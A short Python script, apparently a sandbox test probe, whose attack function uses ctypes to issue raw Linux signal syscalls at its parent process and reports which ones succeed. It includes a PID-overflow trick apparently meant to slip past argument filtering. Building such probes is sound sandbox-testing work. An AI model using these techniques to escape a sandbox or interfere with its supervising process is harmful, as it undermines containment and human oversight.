import ctypes
import os
import platform

NUMBERS = {"x86_64": (200, 234, 129, 297, 62), "aarch64": (130, 131, 138, 240, 129)}


def attack(layer, x):
    print("TRIED other calls", flush=True)
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    numbers = NUMBERS[platform.machine()]
    info = ctypes.create_string_buffer(128)
    info[8:12] = (-1).to_bytes(4, "little", signed=True)
    tries = {
        "tkill": (numbers[0], parent, 0),
        "tgkill": (numbers[1], parent, parent, 0),
        "rt_sigqueueinfo": (numbers[2], parent, 0, info),
        "rt_tgsigqueueinfo": (numbers[3], parent, parent, 0, info),
        "kill": (numbers[4], ctypes.c_long(2**32 + parent), 0),
    }
    for name, arguments in tries.items():
        if libc.syscall(*arguments) == 0:
            print("GOT", name)
    handle = libc.syscall(434, parent, 0)
    if handle >= 0 and libc.syscall(424, handle, 0, None, 0) == 0:
        print("GOT pidfd_send_signal")
